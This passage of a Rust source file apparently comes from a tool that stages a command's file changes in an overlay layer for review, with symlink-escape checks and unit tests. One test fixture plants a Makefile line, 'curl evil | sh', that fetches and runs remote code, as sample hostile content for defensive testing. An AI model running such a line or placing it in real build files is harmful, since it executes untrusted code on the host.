}

/// Whether two files have the same bytes.
fn same_content(a: &Path, b: &Path) -> bool {
    use std::io::Read;
    let (Ok(fa), Ok(fb)) = (fs::File::open(a), fs::File::open(b)) else { return false };
    let (Ok(ma), Ok(mb)) = (fa.metadata(), fb.metadata()) else { return false };
    if ma.len() != mb.len() {
        return false;
    }
    let (mut ra, mut rb) = (io::BufReader::new(fa), io::BufReader::new(fb));
    let (mut x, mut y) = (vec![0u8; 64 * 1024], vec![0u8; 64 * 1024]);
    loop {
        let n = match ra.read(&mut x) {
            Ok(n) => n,
            Err(_) => return false,
        };
        if n == 0 {
            return true;
        }
        if rb.read_exact(&mut y[..n]).is_err() || x[..n] != y[..n] {
            return false;
        }
    }
}

/// Put the layer's entry `src` at `dest` in the project, atomically for a file or a link.
fn put(src: &Path, dest: &Path, c: &Staged) -> Result<(), StageError> {
    let mode = c.new_mode.unwrap_or(0o644);
    // What is at `dest` itself, never followed: a link there is replaced, not written through.
    let here = fs::symlink_metadata(dest).ok();
    let is_dir = here.as_ref().is_some_and(fs::Metadata::is_dir);
    let is_link = here.as_ref().is_some_and(|m| m.file_type().is_symlink());
    match (c.what, c.kind) {
        (What::Mode, _) if is_link => Ok(()),
        (What::Mode, _) => {
            fs::set_permissions(dest, fs::Permissions::from_mode(mode)).map_err(io_err("set the mode of", dest))
        }
        (_, Kind::Dir) => {
            if !is_dir {
                if here.is_some() {
                    fs::remove_file(dest).map_err(io_err("replace", dest))?;
                }
                fs::create_dir(dest).map_err(io_err("create", dest))?;
            }
            fs::set_permissions(dest, fs::Permissions::from_mode(mode)).map_err(io_err("set the mode of", dest))
        }
        (_, Kind::Link) => {
            let target = fs::read_link(src).map_err(io_err("read the link", src))?;
            let tmp = beside(dest);
            std::os::unix::fs::symlink(&target, &tmp).map_err(io_err("create", &tmp))?;
            replace(&tmp, dest)
        }
        (_, Kind::File) => {
            let tmp = beside(dest);
            fs::copy(src, &tmp).map_err(io_err("copy", src))?;
            fs::set_permissions(&tmp, fs::Permissions::from_mode(mode)).map_err(io_err("set the mode of", &tmp))?;
            replace(&tmp, dest)
        }
        (_, Kind::Other) => Ok(()),
    }
}

/// Refuse a path whose folders below the root are not all real folders: a link among them
/// (made by anyone since the stage was made) would carry a write or a removal out of the
/// project.
fn inside(root: &Path, rel: &str) -> Result<(), StageError> {
    let mut at = root.to_path_buf();
    let parts: Vec<&str> = rel.split('/').collect();
    for part in &parts[..parts.len().saturating_sub(1)] {
        at.push(part);
        match fs::symlink_metadata(&at) {
            Ok(m) if m.is_dir() => {}
            // Missing: a folder the apply makes (shallow before deep), checked when made.
            Err(e) if e.kind() == io::ErrorKind::NotFound => {}
            _ => {
                return Err(StageError::Io {
                    what: "apply a change below",
                    path: at,
                    source: io::Error::other("it is not a folder of the project (a link or a file)"),
                })
            }
        }
    }
    Ok(())
}

/// A new name in `dest`'s folder for writing before the rename.
fn beside(dest: &Path) -> PathBuf {
    let name = dest.file_name().map(|n| n.to_string_lossy().into_owned()).unwrap_or_default();
    dest.with_file_name(format!(".{name}.wicket-staged-{}", wicket_audit::new_session_id()))
}

/// Rename `tmp` over `dest` (a folder in the way is not replaced: that is an error).
fn replace(tmp: &Path, dest: &Path) -> Result<(), StageError> {
    fs::rename(tmp, dest).map_err(|e| {
        let _ = fs::remove_file(tmp);
        io_err("write", dest)(e)
    })
}

/// Write `bytes` to `dest` atomically, with `mode`.
fn write_atomically(dest: &Path, bytes: &[u8], mode: u32) -> Result<(), StageError> {
    let tmp = beside(dest);
    fs::write(&tmp, bytes).map_err(io_err("write", &tmp))?;
    fs::set_permissions(&tmp, fs::Permissions::from_mode(mode)).map_err(io_err("set the mode of", &tmp))?;
    replace(&tmp, dest)
}

/// Write the records atomically: a stage has them whole or not at all.
fn write_record(stage_dir: &Path, record: &Record) -> Result<(), StageError> {
    let text = serde_json::to_vec(record).map_err(|e| StageError::Broken { id: String::new(), why: e.to_string() })?;
    let path = stage_dir.join(RECORD);
    let tmp = stage_dir.join(format!("{RECORD}.tmp"));
    fs::write(&tmp, text).map_err(io_err("write", &tmp))?;
    fs::rename(&tmp, &path).map_err(io_err("write", &path))
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A changed code-running file whose new version cannot be kept in the stage is still put
    /// back as it was (the command's version is lost, never left for the host to run).
    #[test]
    fn put_back_restores_the_original_even_when_the_new_version_cannot_be_kept() {
        let t = tempfile::tempdir().expect("a temp folder");
        let file = t.path().join("Makefile");
        fs::write(&file, "all:\n\tcurl evil | sh\n").expect("write");
        // The place in the stage is taken by a folder: the copy fails.
        let to = t.path().join("upper/Makefile");
        fs::create_dir_all(&to).expect("mkdir");
        let before = wicket_planner::held::Before::File { bytes: b"all:\n\techo hi\n".to_vec(), mode: 0o644 };
        assert!(put_back(&file, &to, &before).is_err(), "the failure to keep it is reported");
        assert_eq!(fs::read_to_string(&file).expect("read"), "all:\n\techo hi\n");
    }

    /// A project with a file to edit, one to delete, one to chmod, one left alone, a link.
    fn project() -> (tempfile::TempDir, PathBuf, PathBuf) {
        let t = tempfile::tempdir().expect("a temp folder");
        let root = t.path().join("proj");
        let stages = t.path().join("staged");
        fs::create_dir_all(root.join("src")).expect("mkdir");
        fs::write(root.join("src/main.rs"), MAIN).expect("write");
        fs::write(root.join("gone.txt"), "bye\n").expect("write");
        fs::write(root.join("run.sh"), "echo hi\n").expect("write");
        fs::set_permissions(root.join("run.sh"), fs::Permissions::from_mode(0o644)).expect("chmod");
        fs::write(root.join("same.txt"), "same\n").expect("write");
        std::os::unix::fs::symlink("same.txt", root.join("link")).expect("symlink");
        (t, root, stages)
    }

    const MAIN: &str =
        "fn main() {\n    one();\n    two();\n    three();\n    four();\n    five();\n    six();\n    seven();\n}\n";

    /// What overlayfs leaves in the layer for a command that edits, adds (a folder too),
    /// deletes (a whiteout), chmods and rewrites a file with the same bytes. `None` where a
    /// whiteout cannot be made here (not root).
    fn run_command(stage: &Stage) -> Option<()> {
        let up = stage.upper();
        fs::create_dir_all(up.join("src")).expect("mkdir");
        fs::write(up.join("src/main.rs"), MAIN.replace("one()", "ONE()").replace("seven()", "SEVEN()")).expect("edit");
        fs::create_dir(up.join("new")).expect("mkdir");
        fs::write(up.join("new/file.txt"), "new\n").expect("add");
        fs::write(up.join("run.sh"), "echo hi\n").expect("copy up");
        fs::set_permissions(up.join("run.sh"), fs::Permissions::from_mode(0o755)).expect("chmod");
        fs::write(up.join("same.txt"), "same\n").expect("touch");
        use rustix::fs::{mknodat, FileType, Mode, CWD};
        mknodat(CWD, up.join("gone.txt"), FileType::CharacterDevice, Mode::empty(), 0).ok()
    }

    fn summary(changes: &[Staged]) -> Vec<(String, What)> {
        changes.iter().map(|c| (c.path.clone(), c.what)).collect()
    }

    fn staged(root: &Path, stages: &Path) -> Option<Stage> {
        let stage = Stage::create(stages, root, "edit things", &[]).expect("stage");
        if run_command(&stage).is_none() {
            eprintln!("skipped: a whiteout (a character device) cannot be made here");
            return None;
        }
        Some(stage)
    }

    #[test]
    fn every_kind_of_change_in_the_layer_is_listed_and_the_project_is_untouched() {
        let (_t, root, stages) = project();
        let Some(stage) = staged(&root, &stages) else { return };
        let changes = stage.changes().expect("changes");
        assert_eq!(
            summary(&changes),
            vec![
                ("gone.txt".into(), What::Deleted),
                ("new".into(), What::Added),
                ("new/file.txt".into(), What::Added),
                ("run.sh".into(), What::Mode),
                ("src/main.rs".into(), What::Modified),
            ]
        );
        let mode = changes.iter().find(|c| c.path == "run.sh").expect("run.sh");
        assert_eq!((mode.old_mode, mode.new_mode), (Some(0o644), Some(0o755)));
        assert!(root.join("gone.txt").exists() && !root.join("new").exists());
        let listed = list(&stages).expect("list");
        assert_eq!((listed.len(), listed[0].command.as_str()), (1, "edit things"));
    }

    #[test]
    fn apply_all_makes_the_project_what_the_command_left_and_removes_the_stage() {
        let (_t, root, stages) = project();
        let Some(mut stage) = staged(&root, &stages) else { return };
        assert_eq!(stage.apply(&[]).expect("apply").len(), 5);
        assert!(!root.join("gone.txt").exists());
        assert_eq!(fs::read_to_string(root.join("new/file.txt")).expect("read"), "new\n");
        assert_eq!(fs::metadata(root.join("run.sh")).expect("stat").mode() & 0o777, 0o755);
        assert!(fs::read_to_string(root.join("src/main.rs")).expect("read").contains("SEVEN()"));
        assert_eq!(fs::read_link(root.join("link")).expect("link"), Path::new("same.txt"));
        assert!(list(&stages).expect("list").is_empty(), "an applied stage is removed");
        let stray: Vec<_> = fs::read_dir(&root)
            .expect("ls")
            .flatten()
            .filter(|e| e.file_name().to_string_lossy().contains("wicket-staged"))
            .collect();
        assert!(stray.is_empty(), "{stray:?}");
    }

    #[test]
    fn apply_some_paths_then_hunks_leaves_the_rest_staged() {
        let (_t, root, stages) = project();
        let Some(mut stage) = staged(&root, &stages) else { return };
        let applied = stage.apply(&["new/file.txt".into(), "./run.sh".into()]).expect("apply");
        assert_eq!(
            summary(&applied),
            vec![("new".into(), What::Added), ("new/file.txt".into(), What::Added), ("run.sh".into(), What::Mode)]
        );
        let again = Stage::open(&stages, stage.id()).expect("still there");
        assert_eq!(
            summary(&again.changes().expect("changes")),
            vec![("gone.txt".into(), What::Deleted), ("src/main.rs".into(), What::Modified)]
        );
        let err = stage.apply(&["nothing/here".into()]).expect_err("an unknown path");
        assert!(
            matches!(&err, StageError::NotInStage { paths, .. } if paths == &["nothing/here".to_string()]),
            "{err}"
        );
        let c = stage.changes().expect("changes").into_iter().find(|c| c.path == "src/main.rs").expect("main.rs");
        assert_eq!(stage.text_change(&c).expect("a text change").hunk_count(), 2);
        stage.apply_hunks("src/main.rs", &[1]).expect("apply hunk 1");
        let text = fs::read_to_string(root.join("src/main.rs")).expect("read");
        assert!(text.contains("one()") && text.contains("SEVEN()"), "{text}");
        assert!(matches!(stage.apply_hunks("src/main.rs", &[5]), Err(StageError::Hunks { .. })));
        stage.apply(&["src/main.rs".into()]).expect("the rest");
        assert!(fs::read_to_string(root.join("src/main.rs")).expect("read").contains("ONE()"));
    }

    #[test]
    fn a_project_changed_since_the_stage_was_made_is_refused_and_named() {
        let (_t, root, stages) = project();
        let Some(mut stage) = staged(&root, &stages) else { return };
        fs::write(root.join("src/main.rs"), "edited by the person meanwhile\n").expect("edit");
        fs::write(root.join("new"), "a file where the stage adds a folder\n").expect("write");
        let err = stage.apply(&[]).expect_err("conflicts");
        assert!(
            matches!(&err, StageError::Conflicts(p) if p == &["new".to_string(), "src/main.rs".to_string()]),
            "{err}"
        );
        assert!(root.join("gone.txt").exists(), "nothing was applied");
        stage.apply(&["gone.txt".into()]).expect("apply one");
        assert!(!root.join("gone.txt").exists());
    }

    #[test]
    fn applying_never_writes_through_a_link_out_of_the_project() {
        let (t, root, stages) = project();
        let outside = t.path().join("outside");
        fs::create_dir(&outside).expect("mkdir");
        fs::set_permissions(&outside, fs::Permissions::from_mode(0o755)).expect("chmod");
        std::os::unix::fs::symlink(&outside, root.join("sub")).expect("symlink");
        // The command replaced the link with a folder holding a file (what overlayfs leaves).
        let mut stage = Stage::create(&stages, &root, "c", &[]).expect("stage");
        fs::create_dir(stage.upper().join("sub")).expect("mkdir");
        fs::set_permissions(stage.upper().join("sub"), fs::Permissions::from_mode(0o700)).expect("chmod");
        fs::write(stage.upper().join("sub/x"), "planted\n").expect("write");
        let what = summary(&stage.changes().expect("changes"));
        assert_eq!(what, vec![("sub".into(), What::Modified), ("sub/x".into(), What::Added)]);
        stage.apply(&[]).expect("apply");
        assert!(!outside.join("x").exists(), "written through the link");
        assert_eq!(fs::metadata(&outside).expect("stat").mode() & 0o777, 0o755, "the link's target was chmodded");
        assert!(fs::symlink_metadata(root.join("sub")).expect("sub").is_dir(), "the link became the folder");
        assert_eq!(fs::read_to_string(root.join("sub/x")).expect("read"), "planted\n");
        // A link put among a path's folders after the run stops the apply.
        let mut stage = Stage::create(&stages, &root, "c", &[]).expect("stage");
        fs::create_dir(stage.upper().join("sub")).expect("mkdir");
        fs::write(stage.upper().join("sub/y"), "y\n").expect("write");
        fs::remove_dir_all(root.join("sub")).expect("rm");
        std::os::unix::fs::symlink(&outside, root.join("sub")).expect("symlink");
        assert!(stage.apply(&["sub/y".into()]).is_err());
        assert!(!outside.join("y").exists(), "written through the link");
    }

    #[test]
    fn discard_leaves_the_project_and_removes_the_stage_and_unfinished_ones_go() {
        let (_t, root, stages) = project();
        let Some(stage) = staged(&root, &stages) else { return };
        // overlayfs leaves a folder no one may list.
        fs::create_dir_all(stage.dir().join("work/work")).expect("mkdir");
        fs::set_permissions(stage.dir().join("work/work"), fs::Permissions::from_mode(0o000)).expect("chmod");
        let id = stage.id().to_string();
        stage.discard().expect("discard");
        assert!(root.join("gone.txt").exists() && !root.join("new").exists());
        assert!(matches!(Stage::open(&stages, &id), Err(StageError::Unknown(_))));
        fs::create_dir_all(stages.join("abc123/upper/half")).expect("mkdir");
        assert!(list(&stages).expect("list").is_empty());
        assert!(!stages.join("abc123").exists(), "the unfinished stage is gone");
        for id in ["../x", "", "a/b", "."] {
            assert!(matches!(Stage::open(&stages, id), Err(StageError::Unknown(_))), "{id:?}");
        }
    }
}
